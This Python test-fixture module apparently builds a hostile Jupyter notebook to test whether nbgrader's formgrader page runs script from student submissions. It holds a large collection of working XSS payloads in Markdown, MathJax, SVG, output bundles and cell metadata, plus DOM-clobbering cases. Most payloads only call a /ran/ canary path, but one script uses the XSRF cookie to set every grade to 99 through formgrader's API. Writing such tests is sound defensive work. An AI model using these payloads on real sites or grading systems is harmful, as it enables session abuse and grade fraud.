"""What a submission may hold to have something run, or fetched, where its page is opened.

Every payload, if it works, asks the server of the page for ``/ran/<name>``: what a browser asked
for is seen from outside of it. None does more than that; one asks for a better grade.
"""

from __future__ import annotations

import json

import nbformat
from cells import code_cell, notebook
from nbformat.v4 import new_markdown_cell

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
"""A picture of one pixel."""


def _script(name: str) -> str:
    return f"fetch(`/ran/{name}`)"


GRADE = """
fetch('/formgrader/api/grades?submission_id=' + submission_id).then(r => r.json()).then(grades =>
    grades.forEach(grade => fetch('/formgrader/api/grade/' + grade.id, {
        method: 'PUT', body: JSON.stringify({manual_score: 99, extra_credit: 99}),
        headers: {'X-XSRFToken': document.cookie.match(/_xsrf=([^;]*)/)[1]},
    })))
"""
"""Gives full marks and more, through formgrader's own interface."""

MARKDOWN = {
    name: text.replace("JS", _script(name)).replace("URL", f"/ran/{name}")
    for name, text in {
        "script": "<script>JS</script>",
        "script-inline": "Text <script>JS</script> goes on.",
        "script-of-a-file": '<script src="evil.js"></script>',
        "image": '<img src="nothing.png" onerror="JS">',
        "image-unquoted": "<img src=nothing.png/onerror=JS onerror=JS>",
        "image-broken": '<img """><script>JS</script>">',
        "svg": '<svg onload="JS"></svg>',
        "svg-script": "<svg><script>JS</script></svg>",
        "svg-animate": '<svg><animate onbegin="JS" attributeName="x" dur="1s"></svg>',
        "details": '<details open ontoggle="JS"><summary>more</summary>text</details>',
        "focus": '<input autofocus onfocus="JS"><textarea autofocus onfocus="JS"></textarea>',
        "video": '<video><source onerror="JS"></video>',
        "style-event": '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="JS">x</b>',
        "frame": '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
        "frame-address": '<iframe src="javascript:parent.JS"></iframe>',
        "frame-fetch": '<iframe src="URL"></iframe>',
        "object": '<object data="URL"></object><embed src="URL">',
        "refresh": '<meta http-equiv="refresh" content="0; url=URL">',
        "base": '<base href="/ran/base/"><img src="URL">',
        "stylesheet": '<link rel="stylesheet" href="URL">',
        "style": "<style>@import url(URL); body { background: url(URL) }</style>",
        "style-attribute": '<b style="background: url(URL)">x</b>',
        "image-fetch": '![x](URL) <img src="URL" srcset="URL 2x">',
        "image-address": "![x](//127.0.0.1:1URL) ![x](\\\\127.0.0.1:1URL) ![x](../../..URL)",
        "image-encoded": "![x](%2e%2e/%2e%2e/..URL) ![x](%2fran%2fx)",
        "formula": r"$\text{<img src=x onerror=JS>}$ and $</math><script>JS</script>$",
        "formula-broken": r"$\frac{<script>JS</script>$",
        "formula-address": r"$\href{javascript:JS}{x}$ $$\class{x}{\cssId{double}{y}}$$",
        "formula-in-a-tag": '<a title="$$\\text{ onmouseover=JS autofocus onfocus=JS}$$">x</a>',
        "mermaid": "```mermaid\n</pre><script>JS</script>\n```",
        "fence": "```python\"><script>JS</script>\nx\n```",
        "fence-html": "```html\n<script>JS</script>\n```",
        "mutation": '<math><mtext><table><mglyph><style><img src=x onerror="JS"></style></mglyph></table></mtext></math>',
        "mutation-form": '<form><math><mtext></form><form><mglyph><style></math><img src onerror="JS">',
        "mutation-comment": '<svg></p><style><g title="</style><img src=x onerror=JS>">',
        "noscript": '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
        "title": "<title><img src=x onerror=JS></title><xmp><img src=x onerror=JS></xmp>",
        "comment": '<!--><img src=x onerror="JS">--> <!-- --!><img src=x onerror="JS"> -->',
        "processing": '<?xml version="1"?><img src=x onerror="JS"> <![CDATA[<img src=x onerror="JS">]]>',
        "template": "<template><script>JS</script></template><slot onslotchange=JS></slot>",
        "heading": '# <img src=x onerror="JS"> double',
        "bootstrap": '<a data-toggle="tooltip" data-html="true" title="<img src=x onerror=JS>" class="name-hidden" data-link="URL">x</a>',
    }.items()
}  # fmt: skip
"""Markdown that is rendered."""

CLICKED = {
    name: text.replace("JS", _script(name)).replace("URL", f"/ran/{name}")
    for name, text in {
        "link": "[click here](javascript:JS)",
        "link-html": '<a href="javascript:JS">click here</a>',
        "link-encoded": '<a href="java&#x0A;script:JS">click here</a>',
        "link-auto": "<javascript:JS>",
        "link-data": '<a href="data:text/html,<script>JS</script>">click here</a>',
        "link-path": "[click here](URL)",
        "link-file": "[click here](evil.html)",
        "link-formgrader": "[click here](/formgrader/?path=/ran/link-formgrader)",
        "button": '<form action="URL"><button formaction="javascript:JS">click here</button></form>',
        "formula-link": r"$\href{javascript:JS}{click here}$",
        "mathml": '<math href="javascript:JS"><mi href="javascript:JS" xlink:href="javascript:JS">click here</mi></math>',
        "mathml-action": '<math><maction actiontype="statusline" xlink:href="javascript:JS">click here</maction></math>',
    }.items()
}  # fmt: skip
"""Markdown that waits for a click."""

CLOBBERING = {
    "cookie": '<img name="cookie"><a id="formgrader"></a><form id="MathJax" name="submission_id">x</form>',
    "other-cell": '# double_of_many\n\n<b id="double_of_many">x</b> <b id="double_of_many-comment">x</b>',
    "classes": '<b class="score full-credit no-credit tabbable mark-graded nbgrader_cell navbar-fixed-top">x</b>',
    "overlay": '<a href="https://127.0.0.1:1/" style="position: fixed; inset: 0; z-index: 9999; margin: -9em">x</a>',
}  # fmt: skip
"""Markdown that takes the name or the place of something that formgrader's page needs."""

_BUNDLES: dict[str, tuple[dict, dict]] = {
    "html": ({"text/html": "<script>JS</script><img src=x onerror='JS'>"}, {}),
    "html-isolated": (
        {"text/html": "<script>parent.JS</script><img src='URL'>"},
        {"text/html": {"isolated": True}},
    ),
    "javascript": ({"application/javascript": "JS"}, {}),
    "markdown": ({"text/markdown": "<script>JS</script> <img src=x onerror=JS>"}, {}),
    "latex": ({"text/latex": "$<script>JS</script>$"}, {}),
    "svg": ({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'><script>JS</script></svg>"}, {}),
    "mermaid": ({"text/vnd.mermaid": "</pre><script>JS</script>"}, {}),
    "plain": ({"text/plain": "<script>JS</script>"}, {}),
    "png": ({"image/png": '"><script>JS</script><img src="'}, {}),
    "png-width": ({"image/png": PNG}, {"width": "1 onload=JS"}),
    "png-height": ({"image/png": "x"}, {"image/png": {"height": "1 onerror=JS", "alt": '"onerror=JS '}}),
    "png-file": ({"image/png": PNG}, {"filenames": {"image/png": "URL"}}),
    "jpeg-width": ({"image/jpeg": "x"}, {"image/jpeg": {"width": "1 onerror=JS", "unconfined": "JS"}}),
    "svg-file": ({"image/svg+xml": "<svg/>"}, {"filenames": {"image/svg+xml": "URL"}}),
    "widget": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>JS</script>"}},
        {},
    ),
    "vendor": (
        {"application/vnd.evil+json": {"x": "<script>JS</script>"}, "text/plain": "x"}, {},
    ),
}  # fmt: skip


def _filled(value: object, name: str) -> object:
    text = json.dumps(value).replace("JS", _script(name)).replace("URL", f"/ran/{name}")
    return json.loads(text)


BUNDLES = {f"output-{name}": _filled(bundle, f"output-{name}") for name, bundle in _BUNDLES.items()}
"""Data and metadata that a cell displays."""

TEXTS = {
    "stream": f"print('<script>{_script('stream')}</script>')",
    "error": f"raise ValueError('<script>{_script('error')}</script>')",
    "error-name": f"raise type('<script>{_script('error-name')}</script>', (Exception,), {{}})",
}
"""Code whose printed text is hostile."""


def answers() -> list[nbformat.NotebookNode]:
    """Return code cells that display every bundle, print every text, and ask for a better grade."""
    made = [
        code_cell(
            "from IPython.display import publish_display_data\n"
            f"publish_display_data({data!r}, metadata={metadata!r})"
        )
        for data, metadata in BUNDLES.values()
    ]
    made += [code_cell(source) for source in TEXTS.values()]
    grab = f"from IPython.display import display, HTML, Javascript\ngrab = {GRADE!r}\n"
    grab += "display(HTML(f'<script>{grab}</script>'))\ndisplay(Javascript(grab))"
    return [*made, code_cell(grab)]


def texts() -> list[nbformat.NotebookNode]:
    """Return a Markdown cell for everything that Markdown may try."""
    cells = [new_markdown_cell(text) for text in (MARKDOWN | CLICKED | CLOBBERING).values()]
    attached = new_markdown_cell("![x](attachment:a.png) ![x](attachment:b) ![x](attachment:none)")
    attached["attachments"] = {
        "a.png": {"image/png": f'"><script>{_script("attached")}</script>'},
        "b": {f'text/html"><script>{_script("attached")}</script>': "PHNjcmlwdD4="},
    }
    return [*cells, attached]


def hostile_notebook(*cells: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Return a notebook with some cells of an assignment, and everything that is hostile."""
    made = notebook(*cells, *texts(), *answers())
    for number, cell in enumerate(made.cells):
        cell.metadata["tags"] = [f'"><script>{_script("tag")}</script>']
        cell.metadata["magics_language"] = f'"><script>{_script("language")}</script>'
        cell.metadata["alt"] = f'"><script>{_script("alt")}</script>'
        cell["id"] = f"cell-{number}"
    made.metadata["title"] = f"</title><script>{_script('name')}</script>"
    made.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"</script><script>JS</script>": {}}, "version_major": 2, "version_minor": 0,
        },
    }  # fmt: skip
    return made
